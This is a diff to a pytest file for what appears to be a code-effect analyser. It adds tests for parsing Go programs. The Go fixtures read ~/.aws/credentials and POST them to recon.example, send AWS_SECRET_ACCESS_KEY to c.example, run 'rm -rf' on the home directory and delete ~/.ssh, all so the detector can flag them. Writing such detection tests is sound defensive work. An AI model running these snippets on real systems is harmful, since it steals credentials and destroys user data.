@@ -8,6 +8,7 @@ import pytest
 
 from limen.normalize.code import UNKNOWN, CodeEffects, analyse_code
 from limen.normalize.code.elixir import parse_elixir
+from limen.normalize.code.golang import parse_go
 from limen.normalize.code.jllua import embedded_lua, parse_julia, parse_lua
 from limen.normalize.code.rlang import parse as parse_r
 
@@ -174,7 +175,54 @@ def test_elixir_deletes_home_and_environment() -> None:
     assert not (quiet.shell or quiet.argvs or quiet.deletes or quiet.posted or quiet.opaque)
 
 
-@pytest.mark.parametrize("lang", ["r", "julia", "lua", "elixir"])
+# ----------------------------------------------------------------- Go
+
+_GO_MAIN = (
+    'package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"os/exec"\n)\n\nfunc main() {{\n{}\n}}\n'
+)
+
+
+def go(body: str) -> CodeEffects:
+    return effects("go", _GO_MAIN.format(body))
+
+
+def test_go_grammar_is_read_and_garbage_is_not() -> None:
+    program = parse_go(_GO_MAIN.format("\tif err := run(); err != nil {\n\t\tpanic(err)\n\t}"))
+    assert program is not None and program.kind == "block"
+    assert parse_go("package main\nfunc main( {\n") is None
+
+
+def test_go_reads_sends_and_runs_what_its_calls_name() -> None:
+    """A value beside its error (`b, _ := os.ReadFile(p)`) is the call's; what is posted, run and deleted is
+    what a Python program's same calls would be."""
+    found = go(
+        '\th, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(h + "/.aws/credentials")\n'
+        '\thttp.Post("https://recon.example/in", "text/plain", bytes.NewReader(b))'
+    )
+    assert HOME + "/.aws/credentials" in found.reads and found.posted == ["https://recon.example/in"]
+    found = go('\th, _ := os.UserHomeDir()\n\texec.Command("rm", "-rf", h).Run()')
+    assert found.argvs[0][0] == ("rm", "-rf", HOME)
+    key = 'bytes.NewBufferString(os.Getenv("AWS_SECRET_ACCESS_KEY"))'
+    found = go(
+        f'\treq, _ := http.NewRequest("POST", "https://c.example/e", {key})\n\thttp.DefaultClient.Do(req)'
+    )
+    assert found.posted == ["https://c.example/e"]
+    assert go('\tos.RemoveAll(filepath.Join(os.Getenv("HOME"), ".ssh"))').deletes[0][:2] == (
+        HOME + "/.ssh",
+        True,
+    )
+
+
+def test_go_ordinary_programs_are_quiet() -> None:
+    """A server reading its own settings, a health check of this machine: nothing sent, run or deleted."""
+    found = go(
+        '\tcfg, err := os.ReadFile("config.yaml")\n\tif err != nil {\n\t\tpanic(err)\n\t}\n\t_ = cfg\n'
+        '\tresp, _ := http.Get("http://localhost:8080/healthz")\n\tprintln(resp.Status)'
+    )
+    assert not (found.shell or found.argvs or found.deletes or found.posted or found.opaque)
+
+
+@pytest.mark.parametrize("lang", ["r", "julia", "lua", "elixir", "go"])
 def test_deep_nesting_and_garbage_are_never_harmless(lang: str) -> None:
     deep = "f(" * 400 + ")" * 400
     assert effects(lang, deep).opaque
